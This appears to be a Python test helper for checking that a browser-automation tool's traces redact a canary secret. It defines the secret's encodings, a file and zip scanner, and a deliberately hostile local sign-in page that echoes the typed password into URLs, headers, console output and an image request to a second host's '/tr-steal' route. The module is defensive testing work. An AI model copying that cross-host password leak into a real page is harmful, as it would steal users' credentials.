"""A secret value to look for in every file we write, and every form a page or a server writes it in.

``CANARY`` holds a space, an ``&``, a ``!`` and a non-ASCII letter, so each writer leaves a different
string; :data:`ENCODINGS` are the forms the secrets module matches (the value, its case, decomposed
Unicode, URL forms, base64, HTML and JSON escapes). :func:`found_in` counts them in bytes, inside a
zip's entries too. :func:`echo_site` serves a hostile page that puts what is typed into it back in
every one of those forms: its text (upper and lower case, decomposed), its URL, a console message,
a request header, a JSON body, a second host's image URL; the form posts it, and the server answers
it back HTML-escaped, as ASCII-escaped JSON (gzipped) and inside a binary image.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import html
import json
import unicodedata
import urllib.parse
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from _server import Request, Response, StaticServer

CANARY = "Zq&canary 7!ë"
_UTF8 = CANARY.encode()
ENCODINGS = {
    "raw": CANARY,
    "upper": CANARY.upper(),
    "lower": CANARY.lower(),
    "nfd": unicodedata.normalize("NFD", CANARY),
    "uri-component": urllib.parse.quote(CANARY, safe="-_.!~*'()"),
    "form-urlencoded": urllib.parse.quote_plus(CANARY, safe="-_.*"),
    "base64": base64.b64encode(_UTF8).decode(),
    "base64url": base64.urlsafe_b64encode(_UTF8).decode().rstrip("="),
    "html": html.escape(CANARY),
    "json-ascii": json.dumps(CANARY)[1:-1],
}


def blobs_of(path: Path) -> list[bytes]:
    """The bytes of ``path``: a zip's entries one by one (deflated bytes hide nothing), else the file."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            return [archive.read(name) for name in archive.namelist()]
    return [path.read_bytes()]


def found_in(*paths: Path) -> dict[str, int]:
    """How often each encoding of the canary occurs across ``paths`` (a folder: every file in it)."""
    files = [f for p in paths for f in ([p] if p.is_file() else sorted(x for x in p.rglob("*") if x.is_file()))]
    blobs = [blob for f in files for blob in blobs_of(f)]
    return {name: sum(blob.count(form.encode()) for blob in blobs) for name, form in ENCODINGS.items()}


PAGE = """<!doctype html><title>Sign in</title>
<form method=post action=/tr-posted><label>Password <input id=pw name=pw></label><button id=go>Sign in</button></form>
<p id=echo></p><p id=nfd></p><div id=pics></div>
<script>
document.getElementById('pw').addEventListener('input', async (e) => {
  const v = e.target.value;
  const b64 = btoa(unescape(encodeURIComponent(v)));
  console.log('typed', v, b64);
  document.getElementById('echo').textContent = v.toUpperCase() + ' / ' + v.toLowerCase();
  document.getElementById('echo').setAttribute('data-v', v);
  document.getElementById('nfd').textContent = v.normalize('NFD');
  history.replaceState(null, '', location.pathname + '?e=' + encodeURIComponent(v));
  const url = b64.replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
  const picture = (src) => new Promise((done) => {
    const img = new Image(); img.onload = img.onerror = done; img.src = src; document.getElementById('pics').append(img);
  });
  await Promise.all([  // every echo has reached the network before the test goes on
    picture('CROSS/tr-steal?q=' + encodeURIComponent(v)), picture('/tr-bin?v=' + encodeURIComponent(v) + '&u=' + url),
    fetch('/tr-api?q=' + encodeURIComponent(v), {method: 'POST', body: JSON.stringify({v}), headers: {'X-Echo': b64}})
      .then((r) => r.text())]);
  window.echoed = true;
});
</script>"""


def _api(req: Request) -> Response:
    body = json.dumps({"echo": req.query.get("q", "")}).encode()  # ASCII-escaped JSON, gzipped on the wire
    return Response(200, gzip.compress(body), "application/json", {"Content-Encoding": "gzip"})


def _binary(req: Request) -> Response:
    return Response(200, b"\x89PNG\r\n\x1a\n\x00\xff\xfe" + req.query.get("v", "").encode() + b"\x00\x80", "image/png")


def _posted(req: Request) -> Response:
    value = urllib.parse.parse_qs(req.body.decode()).get("pw", [""])[0]
    return Response.html(f"<title>Welcome</title><p>Signed in as {html.escape(value)}</p>")


@contextlib.contextmanager
def echo_site(server: StaticServer, cross_server: StaticServer) -> Iterator[str]:
    """The page above on ``server`` (its images of ``cross_server``, a second host), while inside: its URL."""
    routes = [server.route("/tr-page", lambda req: Response.html(PAGE.replace("CROSS", cross_server.origin))),
              server.route("/tr-api", _api), server.route("/tr-bin", _binary), server.route("/tr-posted", _posted),
              cross_server.route("/tr-steal", lambda req: Response(200, b"", "image/gif"))]
    with contextlib.ExitStack() as stack:
        for route in routes:
            stack.enter_context(route)
        yield server.url("tr-page")


async def plain_fill_trace(context: Any, url: str, path: Path) -> Path:
    """The control: a trace the user records of a plain Playwright fill of the canary on the echo
    site at ``url``, its form posted and answered; returns the zip."""
    page = await context.new_page()
    await context.tracing.start(screenshots=True, snapshots=True)
    await page.goto(url)
    await page.fill("#pw", CANARY)
    await page.wait_for_function("window.echoed === true")
    await page.click("#go")
    await page.get_by_text("Signed in as").wait_for()
    await context.tracing.stop(path=path)
    return path
